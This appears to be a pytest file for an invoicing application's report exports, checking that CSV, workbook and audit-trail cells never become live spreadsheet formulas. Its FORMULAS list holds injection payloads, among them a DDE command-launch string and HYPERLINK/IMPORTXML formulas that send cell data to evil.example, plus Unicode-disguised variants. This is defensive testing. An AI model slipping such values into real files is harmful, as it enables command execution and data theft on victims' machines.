"""Foreign texts that a spreadsheet would compute: no cell of any file that is written is a formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_invoicer.domain.audit import AuditLine, TrailHead
from desktop_invoicer.domain.day_report import DayReport
from desktop_invoicer.domain.finding import Finding, FindingNote, Fix
from desktop_invoicer.domain.notification import AccountName, OrderId
from desktop_invoicer.domain.problem import Problem, ProblemCode
from desktop_invoicer.domain.workflow import Hold, HoldKind
from desktop_invoicer.reports.separated import ENCODING, render_csv
from desktop_invoicer.reports.trail_file import write_trail
from desktop_invoicer.reports.workbook import render_xlsx
from tests.report_builders import MADE_AT, a_closing, a_day_job, a_day_report

SIGNS = frozenset("=+-@\t\r")
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe661+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd","/C calc","x")',
    "{=1+1}",
    '"=1+1',
    '";=1+1;"',
    "x\r\n=1+1",
]


def hostile(text: str) -> DayReport:
    """Make the report of a day in which every foreign text is the same."""
    hold = Hold(HoldKind.NEEDS_PERSON, Problem(ProblemCode.VTEX_REFUSED, {"status": 400, "words": text}))
    sent, unsent = a_day_job(1, is_sent=True), a_day_job(2, is_sent=False)
    jobs = [
        replace(sent, job=replace(sent.job, order_id=OrderId(text), buyer=text, confirmed_by=text, operator=text)),
        replace(unsent, job=replace(unsent.job, order_id=OrderId(text), buyer=text, hold=hold)),
    ]
    note = FindingNote("foreign-invoice", text, MADE_AT, text)
    facts: dict[str, str | int] = {"number": text, "value": 12990, "type": "Output"}
    finding = Finding(
        "foreign-invoice",
        Problem(ProblemCode.FOREIGN_INVOICE, facts),
        Fix.NOTE,
        AccountName(text),
        OrderId(text),
        note=note,
    )
    report = replace(a_day_report(jobs, store=text, findings=[finding]), desk=text)
    return replace(report, closing=replace(a_closing(report, reason=text), manager=text))


def begins(cell: str) -> str:
    """Give the sign with which a spreadsheet that looks through blanks and wide forms begins to read a cell."""
    return unicodedata.normalize("NFKC", cell).lstrip(" \u00a0\u200b\ufeff\u202e\x00\n")[:1]


def computed(cells: list[str]) -> list[str]:
    """Give the cells that would be computed."""
    return [cell for cell in cells if cell and begins(cell) in SIGNS]


def cells_of(content: bytes) -> list[str]:
    text = content.decode(ENCODING)
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_of_a_csv_is_computed(text: str) -> None:
    cells = cells_of(render_csv(hostile(text)))

    assert computed(cells) == []
    assert any("1+1" in cell or "A1" in cell or "evil" in cell or "calc" in cell for cell in cells)  # it is there


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_of_a_workbook_is_computed(text: str) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(hostile(text))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]

    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert all(cell.hyperlink is None for cell in cells)
    assert any("1+1" in str(cell.value) or "(" in str(cell.value) for cell in cells)  # it is there


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_of_an_audit_trail_is_computed(text: str, tmp_path: Path) -> None:
    line = AuditLine(1, text, text, text, text, text, text, text)
    write_trail([[line]], tmp_path / "trail.csv", TrailHead(1, "0" * 64))

    assert computed(cells_of((tmp_path / "trail.csv").read_bytes())) == []
